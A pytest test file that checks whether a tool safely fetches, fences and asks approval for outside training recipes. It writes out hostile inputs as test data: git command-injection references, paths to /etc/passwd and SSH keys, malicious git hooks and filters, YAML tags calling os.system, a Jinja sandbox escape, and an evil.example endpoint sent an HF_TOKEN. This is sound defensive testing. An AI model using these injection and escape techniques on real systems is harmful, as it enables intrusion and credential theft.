"""Recipes from outside: fetched at a commit, kept within their repository, shown before they run, unable to execute."""

import contextlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from distill.errors import ModelError, RecipeError, UserError
from distill.models.hub import resolve_model
from distill.recipe import git_files, remote
from distill.recipe.loading import load_recipe, read_recipe
from distill.recipe.references import GitReference, HubReference, parse_reference
from distill.recipe.trust import accesses

SECRET_FILE = "/etc/passwd"


def refusal(reference):
    with pytest.raises(UserError) as caught:
        read_recipe(reference)
    return str(caught.value)


# --- how a recipe elsewhere is named


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("hf:org/repo/a/recipe.yaml@v1", HubReference("org/repo", None, "a/recipe.yaml", "v1")),
        ("hf:org/repo", HubReference("org/repo", None, None, None)),
        ("hf:org/repo@refs/pr/3", HubReference("org/repo", None, None, "refs/pr/3")),
        ("hf:datasets/org/repo/x.yaml", HubReference("org/repo", "dataset", "x.yaml", None)),
        ("git+https://h/o/r.git@v1#a/x.yaml", GitReference("https://h/o/r.git", "a/x.yaml", "v1")),
        ("git+ssh://git@h/o/r.git#x.yaml", GitReference("ssh://git@h/o/r.git", "x.yaml", None)),
        ("git+file:///a/b@main", GitReference("file:///a/b", None, "main")),
    ],
)
def test_references_have_parts(text, parts):
    assert parse_reference(text) == parts


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("hf:repo", "expected hf:org/repo"),
        ("hf:org/repo/../../x.yaml", "outside its own repository"),
        ("hf:org/repo/x.yaml@-rf", "not a revision"),
        ("hf:org/repo@hf_abcdefghijklmnopqrstuvwxyz", "holds a key"),
        ("https://github.com/o/r", "Do you mean git+https://github.com/o/r?"),
        ("git@github.com:o/r.git", "Do you mean git+ssh://git@github.com/o/r.git?"),
        ("git+https://me:pass@h/o/r.git", "holds a login"),
        ("git+https://token@h/o/r.git", "holds a login"),
        ("git+ext::sh -c touch% /tmp/x", "expected git+https"),
        ("ext::sh -c id", "expected git+https"),
        ("git+file:///r@--upload-pack=x#r.yaml", "not a revision"),
        ("git+file:///r#/etc/passwd", "outside its own repository"),
        ("git+file:///r#../x.yaml", "outside its own repository"),
        ("git+ssh://-oProxyCommand=x/r#r.yaml", "not the address"),
    ],
)
def test_a_reference_that_cannot_be_meant_is_refused(text, says):
    message = refusal(text)
    assert says in message
    assert "pass@" not in message
    assert "hf_abc" not in message


# --- git


def test_git_gives_the_file_its_parent_and_its_problems_at_a_commit(git_repo, theirs):
    first = git_repo.commit(
        {
            "base.yaml": theirs.replace('"gym:chain_sum", limit: 5', '"file:sets/sums.jsonl"'),
            "a/recipe.yaml": "extends: ../base.yaml\nname: child\n",
            "sets/sums.jsonl": '{"problem": "1+1?", "answer": "2"}\n',
            "unrelated.txt": "not fetched\n",
        }
    )
    git_repo.git("tag", "v1")
    git_repo.commit({"a/recipe.yaml": "extends: ../base.yaml\nname: newer\n"})
    loaded = read_recipe(f"{git_repo.url}@v1#a/recipe.yaml")
    assert (loaded.recipe.name, loaded.outside.pinned) == ("child", f"{git_repo.url}@{first}#a/recipe.yaml")
    source = loaded.recipe.problems[0].source.removeprefix("file:")
    assert Path(source).read_text().startswith('{"problem"')
    fetched = sorted(path.name for path in loaded.outside.folder.rglob("*") if path.is_file())
    assert fetched == ["base.yaml", "recipe.yaml", "sums.jsonl"]
    assert read_recipe(f"{git_repo.url}#a/recipe.yaml").recipe.name == "newer"


def test_a_whole_commit_that_is_here_is_read_without_asking(git_repo, theirs):
    commit = git_repo.commit({"recipe.yaml": theirs})
    reference = f"{git_repo.url}@{commit}#recipe.yaml"
    before = read_recipe(reference)
    git_repo.folder.rename(git_repo.folder.with_name("gone"))
    assert read_recipe(reference).outside == before.outside


@pytest.mark.parametrize(
    ("reference", "says"),
    [
        ("{url}@no-such#recipe.yaml", "has no revision 'no-such'"),
        ("{url}@" + "0" * 40 + "#recipe.yaml", "has no revision"),
        ("{url}#no/such.yaml", "there is no no/such.yaml in commit"),
        ("{url}#folder", "is a folder"),
        ("{url}#link.yaml", "is a link"),
        ("git+file:///no/such/repo", "cannot read the repository"),
        ("git+http://127.0.0.1:9/o/r.git", "cannot read the repository"),
    ],
)
def test_what_git_does_not_have_is_told(git_repo, theirs, reference, says):
    (git_repo.folder / "link.yaml").symlink_to(SECRET_FILE)
    git_repo.commit({"recipe.yaml": theirs, "folder/x.yaml": theirs})
    assert says in refusal(reference.format(url=git_repo.url))


def test_a_repository_that_does_not_answer_is_given_up(monkeypatch):
    import socket

    monkeypatch.setattr(git_files, "TIMEOUT_S", 1.0)
    with socket.create_server(("127.0.0.1", 0)) as silent:
        assert "no answer within" in refusal(f"git+http://127.0.0.1:{silent.getsockname()[1]}/o/r.git")


def test_a_huge_repository_is_not_fetched_to_the_end(monkeypatch, git_repo, theirs):
    monkeypatch.setattr(git_files, "MAX_REPOSITORY_BYTES", 200_000)
    monkeypatch.setattr(git_files, "_POLL_S", 0.01)
    (git_repo.folder / "big.bin").write_bytes(os.urandom(900_000))
    git_repo.commit({"recipe.yaml": theirs})
    assert "larger than 200,000 bytes" in refusal(f"{git_repo.url}#recipe.yaml")


def test_large_files_come_only_where_they_are_named(git_repo, theirs, tmp_path, monkeypatch):
    """From a server that leaves large files out until they are asked for."""
    git_repo.git("config", "uploadpack.allowFilter", "true")
    git_repo.git("config", "uploadpack.allowAnySHA1InWant", "true")
    row = '{"problem": "1+1?", "answer": "2"}\n'
    (git_repo.folder / "big.bin").write_bytes(os.urandom(3_000_000))
    git_repo.commit(
        {"recipe.yaml": theirs.replace('"gym:chain_sum", limit: 5', '"file:s.jsonl"'), "s.jsonl": row * 60_000}
    )
    sizes = []
    monkeypatch.setattr(git_files.GitFiles, "__exit__", lambda self, *error: sizes.append(folder_size(self)))
    loaded = read_recipe(f"{git_repo.url}#recipe.yaml")
    assert Path(loaded.recipe.problems[0].source.removeprefix("file:")).stat().st_size == len(row) * 60_000
    assert sizes[0] < 1_000_000  # the rows pack well, the random bytes would not


def folder_size(files):
    try:
        return sum(path.stat().st_size for path in Path(files._folder.name).rglob("*") if path.is_file())
    finally:
        files._folder.cleanup()


def test_no_hook_filter_or_setting_of_a_repository_runs(git_repo, theirs, tmp_path):
    ran = tmp_path / "ran"
    script = f"#!/bin/sh\ntouch {ran}\n"
    for hook in ("post-checkout", "post-merge", "reference-transaction", "pre-auto-gc", "post-upload-pack"):
        path = git_repo.folder / ".git" / "hooks" / hook
        path.parent.mkdir(exist_ok=True)
        path.write_text(script)
        path.chmod(0o755)
    git_repo.commit(
        {
            "recipe.yaml": theirs,
            ".gitattributes": "* filter=evil\n",
            ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = -u./evil\n',
            ".gitconfig": f'[filter "evil"]\n\tsmudge = touch {ran}\n',
        }
    )
    git_repo.git("config", "filter.evil.smudge", f"touch {ran}")
    ran.unlink(missing_ok=True)  # the owner's own commit ran the owner's hooks
    assert read_recipe(f"{git_repo.url}#recipe.yaml").recipe.name == "theirs"
    assert not ran.exists()


# --- the Hub


def test_the_hub_gives_a_recipe_of_a_model_or_a_data_set(hub, theirs):
    hub.make("model", "org/one", files={"recipe.yaml": theirs.encode()})
    hub.make(
        "dataset", "org/two", files={"r/x.yaml": b"extends: base.yaml\nname: two\n", "r/base.yaml": theirs.encode()}
    )
    hub.make("model", "org/student", files={"distill/recipe.yaml": theirs.encode()})
    assert read_recipe("hf:org/one").recipe.name == "theirs"
    assert read_recipe("hf:org/two/r/x.yaml@main").recipe.name == "two"
    assert read_recipe("hf:org/student").path.parts[-2:] == ("distill", "recipe.yaml")
    pinned = read_recipe("hf:org/one/recipe.yaml").outside.pinned
    num_requests = len(hub.requests)
    read_recipe(pinned)
    read_recipe(pinned)
    assert len(hub.requests) <= num_requests + 2  # at most once: a commit never changes


def test_what_the_hub_does_not_have_is_told(hub, theirs, Fault, monkeypatch):
    hub.make("model", "org/one", files={"recipe.yaml": theirs.encode()})
    assert "no such repository" in refusal("hf:org/none/recipe.yaml")
    assert "no revision 'v9'" in refusal("hf:org/one/recipe.yaml@v9")
    assert "there is no x.yaml" in refusal("hf:org/one/x.yaml")
    gated = {"X-Error-Code": "GatedRepo", "X-Error-Message": "Access is restricted"}
    hub.faults.append(Fault("GET", "/api/models/org/one", 403, times=1, headers=gated))
    assert "gated" in refusal("hf:org/one/recipe.yaml")
    monkeypatch.setattr(remote, "MAX_RECIPE_BYTES", 10)
    assert "too large" in refusal("hf:org/one/recipe.yaml")


def test_a_hub_that_cannot_be_reached_is_told(hub, theirs, monkeypatch):
    from huggingface_hub import constants

    monkeypatch.setattr(constants, "ENDPOINT", "http://127.0.0.1:9")
    assert "cannot be reached" in refusal("hf:org/one/recipe.yaml")


# --- the fence


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"problems": [{"source": f"file:{SECRET_FILE}"}]}, "outside its own repository"),
        ({"problems": [{"source": "file:../../../../etc/passwd"}]}, "outside its own repository"),
        ({"problems": [{"source": "file:~/.ssh/id_ed25519"}]}, "there is no ~/.ssh/id_ed25519"),
        ({"eval": {"benchmarks": [{"source": f"file:{SECRET_FILE}"}]}}, "outside its own repository"),
        ({"filter": {"decontaminate": [f"file:{SECRET_FILE}"]}}, "outside its own repository"),
        ({"sft": {"chat_template": f"file:{SECRET_FILE}"}}, "outside its own repository"),
        ({"traces": [{"source": "hf:a/b", "problems": f"file:{SECRET_FILE}"}]}, "outside its own repository"),
        ({"extends": "../../../../etc/passwd"}, "outside its own repository"),
        ({"extends": SECRET_FILE}, "outside its own repository"),
        ({"extends": "hf:other/repo/recipe.yaml"}, "extends takes a file of this machine or an installed recipe"),
        ({"extends": "git+file:///tmp/x"}, "extends takes a file of this machine or an installed recipe"),
        ({"problems": [{"source": "file:link.jsonl"}]}, "is a link"),
        ({"student": "/home/me/private-model"}, "may only name models of the Hub"),
        ({"student": "./x/y"}, "may only name models of the Hub"),
        ({"generate": {"teacher": "~/models/private"}}, "may only name models of the Hub"),
        (
            {"eval": {"models": ["org/m", "/home/me/private-model"], "held_out": 1}},
            "eval.models.1 is '/home/me/private",
        ),
        ({"eval": {"models": ["./x"], "held_out": 1}}, "Use one of yours with --set eval.models.0=…"),
        ({"eval": {"benchmarks": [{"suite": f"file:{SECRET_FILE}"}]}}, "outside its own repository"),
        (
            {"eval": {"benchmarks": [{"suite": "gsm8k", "judge_template": f"file:{SECRET_FILE}"}]}},
            "outside its own repository",
        ),
        (
            {"eval": {"benchmarks": [{"suite": "arena-hard-0.1", "baseline": {"source": f"file:{SECRET_FILE}"}}]}},
            "outside its own repository",
        ),
    ],
)
def test_a_recipe_from_outside_reaches_only_its_own_files(git_repo, theirs, change, says):
    (git_repo.folder / "link.jsonl").symlink_to(SECRET_FILE)
    child = {"extends": "base.yaml", **change}
    git_repo.commit({"recipe.yaml": json.dumps(child), "base.yaml": theirs})
    assert says in refusal(f"{git_repo.url}#recipe.yaml")


@pytest.mark.parametrize("name", ["/etc", "../x/notes", ".", "a/b/c", "~/x", "hf://datasets/a/b", "json", "a\\b"])
@pytest.mark.parametrize("outside", [True, False])
def test_a_data_set_is_the_hubs_and_never_a_path(git_repo, theirs, tmp_path, name, outside):
    for change in (
        {"problems": [{"source": f"hf:{name}"}]},
        {"eval": {"benchmarks": [{"source": f"hf:{name}"}]}},
        {"filter": {"decontaminate": [f"hf:{name}"]}} if name != "a/b/c" else {"problems": [{"source": "hf:../x"}]},
        {"generate": None, "problems": [], "traces": [{"source": f"hf:{name}"}]},
    ):
        files = {"recipe.yaml": json.dumps({"extends": "base.yaml", **change}), "base.yaml": theirs}
        git_repo.commit(files)
        for file, text in files.items():
            (tmp_path / file).write_text(text)
        assert "expected hf:org/" in refusal(f"{git_repo.url}#recipe.yaml" if outside else tmp_path / "recipe.yaml")


def test_a_model_of_a_recipe_from_outside_is_the_hubs_where_such_a_folder_lies_here(
    git_repo, theirs, tmp_path, monkeypatch
):
    (tmp_path / "private" / "model").mkdir(parents=True)
    (tmp_path / "notes").mkdir()
    monkeypatch.chdir(tmp_path)
    git_repo.commit(
        {"recipe.yaml": json.dumps({"extends": "base.yaml", "student": "private/model"}), "base.yaml": theirs}
    )
    shown = [access.what for access in accesses(read_recipe(f"{git_repo.url}#recipe.yaml").recipe)]
    assert "downloads the student private/model from the Hub (safetensors, no code)" in shown
    assert not any(str(tmp_path / "private") in one for one in shown)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", True)
    with pytest.raises(ModelError, match=r"write \./private/model"):
        resolve_model("private/model")
    git_repo.commit({"recipe.yaml": json.dumps({"extends": "base.yaml", "student": "notes"}), "base.yaml": theirs})
    assert "may only name models of the Hub" in refusal(f"{git_repo.url}#recipe.yaml")


def test_a_lock_from_outside_is_kept_within_its_repository_too(git_repo):
    for student, problems in (("/home/me/model", "gym:chain_sum"), ("org/model", f"file:{SECRET_FILE}")):
        recipe = {
            "name": "theirs",
            "student": student,
            "problems": [{"source": problems}],
            "generate": {"teacher": "org/t", "sampling": {"max_tokens": 100}},
        }
        git_repo.commit({"recipe.lock.yaml": json.dumps({"lock_version": 1, "recipe": recipe, "stages": {}})})
        message = refusal(f"{git_repo.url}#recipe.lock.yaml")
        assert "may only name models of the Hub" in message or "outside its own repository" in message


def test_a_served_teacher_may_be_called_anything(git_repo, theirs):
    served = theirs.replace(
        "teacher: smollm2-135m", "teacher: accounts/a/models/r1, compute: {base_urls: ['http://h/v1']}"
    )
    git_repo.commit({"recipe.yaml": served})
    assert read_recipe(f"{git_repo.url}#recipe.yaml").recipe.generate.teacher == "accounts/a/models/r1"


def test_it_may_build_on_an_installed_recipe(git_repo):
    git_repo.commit({"recipe.yaml": "extends: gsm8k\nname: theirs\nseed: 3\n"})
    loaded = read_recipe(f"{git_repo.url}#recipe.yaml")
    assert (loaded.recipe.generate.teacher, loaded.recipe.seed) == ("Qwen/Qwen3-1.7B", 3)


# --- it executes nothing


@pytest.mark.parametrize(
    "line",
    [
        "description: !!python/object/apply:os.system ['touch {ran}']",
        "description: !!python/object:subprocess.Popen {{args: ['touch', '{ran}']}}",
        "description: !!python/name:os.system",
        "description: !!python/module:os",
        "filter: !!python/object/new:os.system ['touch {ran}']",
        "problems: !!python/tuple [{{source: 'gym:chain_sum'}}]",
    ],
)
def test_no_tag_makes_anything_run(tmp_path, theirs, line):
    ran = tmp_path / "ran"
    path = tmp_path / "recipe.yaml"
    path.write_text("\n".join(x for x in theirs.splitlines() if not x.startswith(line.split(":")[0])) + "\n")
    path.write_text(path.read_text() + line.format(ran=ran) + "\n")
    assert "the tag" in refusal(path) or "cannot be read as" in refusal(path)
    assert not ran.exists()


def test_a_chat_template_runs_in_a_sandbox(tmp_path, theirs):
    from jinja2.exceptions import SecurityError
    from transformers.utils.chat_template_utils import render_jinja_template

    ran = tmp_path / "ran"
    evil = f"{{{{ cycler.__init__.__globals__.os.system('touch {ran}') }}}}"
    with pytest.raises(SecurityError):
        render_jinja_template(conversations=[[{"role": "user", "content": "x"}]], chat_template=evil)
    assert not ran.exists()


@pytest.mark.parametrize("key", ["trust_remote_code", "model_init_kwargs", "output_dir", "hub_token", "push_to_hub"])
def test_training_arguments_that_would_run_or_send_something_are_refused(tmp_path, theirs, key):
    path = tmp_path / "recipe.yaml"
    path.write_text(theirs.replace("max_length: 512", f"max_length: 512, trl: {{{key}: true}}"))
    assert key in refusal(path)


def test_no_model_is_loaded_with_code_of_its_own():
    """Transformers would ask on a terminal whether to run a model's code: every call says no."""
    import ast

    package = Path(remote.__file__).parents[1]
    calls = 0
    for file in package.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            name = ast.unparse(node.func)
            if re.fullmatch(r"(\w+\.)?Auto\w+\.(from_pretrained|from_config)", name):
                given = {word.arg: ast.unparse(word.value) for word in node.keywords}
                assert given.get("trust_remote_code") == "False", f"{file}:{node.lineno}"
                calls += 1
    assert calls >= 5


# --- shown before it runs


def test_it_runs_only_once_somebody_has_accepted_it(git_repo, theirs, distill, tmp_path):
    git_repo.commit({"recipe.yaml": theirs})
    reference = f"{git_repo.url}#recipe.yaml"
    with pytest.raises(RecipeError, match="nobody has looked at it"):
        load_recipe(reference)
    code, _, err = distill("generate", reference, "--status")
    assert code == 2
    assert "A recipe from outside" in err
    assert "downloads the student HuggingFaceTB/SmolLM2-135M-Instruct" in err
    digest = read_recipe(reference).outside.sha256
    assert f"--accept-recipe {digest[:12]}" in err
    for wrong in ("0" * 12, digest[:8], f"sha256:{digest[:11]}", f"SHA256:{digest[:5]}", "sha256:"):
        code, _, err = distill("generate", reference, "--status", "--accept-recipe", wrong)
        assert (code, "It may have changed" in err) == (2, True)
    _, _, err = distill("generate", reference, "--status", "--accept-recipe", f"SHA256:{digest[:12].upper()}")
    assert "A recipe from outside" in err  # shown, as it is the first time
    assert "nothing has been generated here yet" in err
    _, _, again = distill("generate", reference, "--status")
    assert "A recipe from outside" not in again
    assert again in err
    assert load_recipe(reference).name == "theirs"
    git_repo.commit({"recipe.yaml": theirs + "seed: 4\n"})
    assert "nobody has looked at it" in distill("generate", reference, "--status")[2]  # another content


def test_a_plan_asks_for_no_acceptance(git_repo, theirs, distill):
    git_repo.commit({"recipe.yaml": theirs})
    code, _, err = distill("plan", f"{git_repo.url}#recipe.yaml", "--accept-recipe", "0" * 12)
    assert (code, "--accept-recipe" in err) == (2, True)
    assert "It may have changed" not in err
    assert "--accept-recipe" in distill("generate", "--help")[1]
    assert "--accept-recipe" not in distill("plan", "--help")[1]


@pytest.mark.parametrize(("answer", "accepted"), [("y\n", True), ("n\n", False), ("\n", False)])
def test_on_a_terminal_it_asks(git_repo, theirs, tmp_path, answer, accepted):
    import pty

    git_repo.commit({"recipe.yaml": theirs})
    main, side = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "distill", "generate", f"{git_repo.url}#recipe.yaml", "--status"],
        stdin=side,
        stdout=subprocess.PIPE,
        stderr=side,
    )
    os.close(side)
    seen = b""
    while b"Run this recipe?" not in seen:
        seen += os.read(main, 4096)
    os.write(main, answer.encode())
    while process.poll() is None:
        with contextlib.suppress(OSError):
            seen += os.read(main, 4096)
    assert (b"not accepted, so nothing was run" in seen) is not accepted
    assert any((tmp_path / "state").rglob("*.json")) is accepted
    os.close(main)


def test_what_leaves_this_machine_is_marked(monkeypatch, theirs, tmp_path):
    monkeypatch.setenv("HF_TOKEN", "x" * 20)
    path = tmp_path / "recipe.yaml"
    path.write_text(
        theirs.replace(
            "generate: {",
            "generate: {compute: {base_urls: ['http://evil.example/v1'], api_key_env: HF_TOKEN}, ",
        ).replace("max_length: 512", "max_length: 512, trl: {trackio_space_id: me/space}, compute: {tracking: [wandb]}")
        + "push: {repo: evil/model, private: false, dataset: evil/data, accept_licence: true}\n"
        + "eval: {benchmarks: [{source: 'hf:org/exam'}], sampling: {max_tokens: 100}}\n"
    )
    found = {access.what: access.warning for access in accesses(read_recipe(path).recipe)}
    warned = [what for what, warning in found.items() if warning]
    assert any("http://evil.example/v1" in one and "the key in $HF_TOKEN" in one and "usual" in one for one in warned)
    assert any("me/space" in one for one in warned)
    assert any("Weights & Biases" in one for one in warned)
    assert any("evil/model" in one and "PUBLIC" in one for one in warned)
    assert any("evil/data" in one for one in warned)
    assert any("licence" in one for one in warned)
    assert found["downloads the data set org/exam"] is False
